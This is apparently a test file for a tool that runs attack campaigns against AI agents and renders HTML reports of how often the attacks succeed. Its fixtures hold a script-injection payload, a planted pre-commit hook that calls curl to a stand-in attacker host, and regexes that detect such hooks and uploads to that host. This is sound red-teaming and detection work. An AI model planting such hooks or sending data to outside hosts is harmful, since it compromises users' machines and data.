import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { AttemptRecord } from '../../src/attacks/attempt-record.js';
import { CampaignSchema } from '../../src/attacks/campaign.js';
import { parseCampaign } from '../../src/attacks/campaign-file.js';
import { runCampaign } from '../../src/attacks/run-campaign.js';
import { escapeHtml } from '../../src/render/html.js';
import { type ReportRun, renderReportHtml } from '../../src/render/report-html.js';
import { reportRunOf } from '../../src/render/report-run.js';
import { CommandTarget } from '../../src/targets/command-target.js';
import { needsBubblewrap } from '../support/requirements.js';
import { hostileReportRuns } from './support/report-runs.js';

/** Why the tests that run an out-of-process agent (in its sandbox) skip here, if they do. */
const bubblewrap = await needsBubblewrap();

/** The report as text. What a person sees of it in Chromium: report-browser.heavy.test.ts. */

/** The report's text as a person reads it: tags dropped, entities decoded. */
function visibleText(html: string): string {
  return html
    .replace(/<style>[\s\S]*?<\/style>/, '')
    .replace(/<[^>]+>/g, '')
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)));
}

describe('renderReportHtml', { skip: bubblewrap }, () => {
  let runs: ReportRun[];
  before(async () => {
    runs = await hostileReportRuns();
  });

  it('escapes attacker text and truncates it, loading nothing from outside', () => {
    const html = renderReportHtml(runs, { generatedAt: '2026-01-01T00:00:00.000Z' });
    assert.equal(html.includes('<script'), false);
    assert.equal(html.includes('<img'), false);
    assert.ok(html.includes(escapeHtml('<script>document.title="pwned"</script>')));
    assert.match(html, /AAAA… \(\d+ more characters not shown\)/);
    assert.match(html, /Content-Security-Policy" content="default-src 'none'/);
  });

  it('explains each gap of the evidence in words, naming the path that caused it', async () => {
    const gapped = await runCampaign({
      campaign: CampaignSchema.parse({
        name: 'gap',
        target: { kind: 'command', command: '/bin/sh' },
        attacks: [
          { id: 'link-out', prompt: 'x', expect: { uri: '/out/*', match: 'glob', contains: 'attacker' } },
        ],
      }),
      target: new CommandTarget({
        command: '/bin/sh',
        args: ['-c', 'mkdir out && ln -s /etc/hostname out/h'],
      }),
    });
    assert.equal(gapped.attempts[0]?.outcome, 'undetermined');
    const html = renderReportHtml([reportRunOf(gapped.run, gapped.attempts)]);
    assert.match(
      html,
      /<li><code class="gap">link_outside_root<\/code> at <code>\/out\/h<\/code>: a link resolves outside the root, so it was not read/,
    );
    // The run's summary counts the attempts per gap code.
    assert.match(html, /<tr><td><code class="gap">link_outside_root<\/code><\/td><td class="num">1<\/td>/);
  });

  it('shows a regex criterion exactly as the campaign wrote it, and a written \\n as in the file', async () => {
    const campaign = parseCampaign(
      [
        'name: criterion-as-written',
        'target: { kind: command, command: /bin/sh }',
        'attacks:',
        '  - id: hook',
        '    prompt: x',
        "    expect: { uri: /hooks/pre-commit, regex: 'curl\\s.*attacker\\.example' }",
        '  - id: json',
        '    prompt: x',
        `    expect: { uri: /settings.json, regex: '"upload":\\s*"https://attacker\\.example' }`,
        '',
      ].join('\n'),
      'criterion.yaml',
    );
    const result = await runCampaign({
      campaign,
      target: new CommandTarget({
        command: '/bin/sh',
        args: [
          '-c',
          `mkdir -p hooks && printf 'printf "a\\\\nb"\\ncurl -s https://attacker.example/p\\n' > hooks/pre-commit`,
        ],
      }),
    });
    const html = renderReportHtml([reportRunOf(result.run, result.attempts)]);
    const seen = visibleText(html);
    assert.ok(seen.includes('matching the regular expression "curl\\s.*attacker\\.example" (ignoring case)'));
    assert.ok(
      seen.includes(
        `matching the regular expression '"upload":\\s*"https://attacker\\.example' (ignoring case)`,
      ),
    );
    assert.doesNotMatch(seen, /curl\\\\s|attacker\\\\\.|\\"upload/);
    // The file holds `printf "a\nb"` (a backslash and an n) and a line feed: the excerpt shows the first as
    // written, and the content block keeps the line feed as a line break.
    assert.ok(seen.includes('printf "a\\nb"\ncurl -s https://attacker.example/p'));
  });

  it('marks each escape it writes, so a typed \\n and a line feed read apart', () => {
    const [demo] = runs as [ReportRun];
    const record = demo.cards[0] as AttemptRecord;
    const html = renderReportHtml([
      reportRunOf(demo.summary.run, [{ ...record, reply: 'typed \\n, then a real\nline feed \u202E' }]),
    ]);
    assert.ok(
      html.includes('typed \\n, then a real\nline feed <span class="esc" title="U+202E">\\u202E</span>'),
    );
  });

  it('gives full cards to what needs reading, up to a stated bound, and counts what it left out', () => {
    const [demo] = runs as [ReportRun];
    const template = demo.cards.find((card) => card.outcome === 'success') as AttemptRecord;
    const failed = { ...template, outcome: 'failure' as const };
    const records = [
      ...Array.from({ length: 7 }, (_, i) => ({ ...template, attempt: i + 1 })),
      ...Array.from({ length: 9 }, (_, i) => ({ ...failed, attempt: i + 8 })),
    ];
    const bounded = reportRunOf(demo.summary.run, records, { cardsPerOutcome: 3, compact: 4 });
    assert.deepEqual(
      bounded.cards.map((card) => card.attempt),
      [1, 2, 3],
    );
    assert.deepEqual(
      bounded.compact.map((row) => row.attempt),
      [8, 9, 10, 11],
    );
    assert.equal(bounded.compactOmitted, 5);
    const html = renderReportHtml([bounded]);
    assert.equal([...html.matchAll(/<article class="attempt /g)].length, 3);
    assert.match(html, /<li>4 more successes: <code>witness view → run [^<]+\?outcome=success<\/code><\/li>/);
    assert.match(html, /5 more attempts decided false \(at most 4 are listed\)/);
    // The summary still counts every attempt.
    assert.match(html, /Attack success rate: <strong><span class="rate">7\/16 decided \(43\.8%\)<\/span>/);
  });
});
